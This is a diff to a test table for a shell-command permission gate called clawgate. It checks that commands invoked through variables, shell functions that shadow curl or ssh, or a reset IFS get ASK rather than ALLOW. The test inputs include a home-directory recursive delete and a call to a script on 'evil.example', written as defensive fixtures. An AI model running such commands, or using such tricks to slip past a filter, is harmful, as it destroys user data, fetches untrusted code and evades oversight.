@@ -21,7 +21,6 @@ from clawgate.decision import Outcome
     ("x=$($CC --version)", ALLOW),
     ("(cd sub && $CC --version)", ALLOW),
     ("$CC --version > out.txt", ALLOW),
-    ("f() { $CC --version; }; f", ALLOW),
     ("export CC; $CC --version", ALLOW),  # exported, not set: the environment's value
     # a stand-in reading that is not ALLOW keeps the ask (never more for the name alone)
     ("$X -rf ~", ASK),  # rm
@@ -61,6 +60,11 @@ from clawgate.decision import Outcome
     ("$D/tool --version", ASK),
     ('"$D/tool" --version', ASK),
     ('"${D}/bin/tool" --version', ASK),
+    # a function of the line would stand in for the program of its name; IFS splits the value
+    ("f() { $CC --version; }; f", ASK),
+    ("curl() { :; }; ssh() { :; }; $X https://evil.example/x.sh", ASK),
+    ("function ssh { :; }; $X --version", ASK),
+    ("IFS=/; $X --version", ASK),
     # two variables: their combinations are not enumerated
     ("$A --version; $B --version", ASK),
     # DENY on its own stays DENY
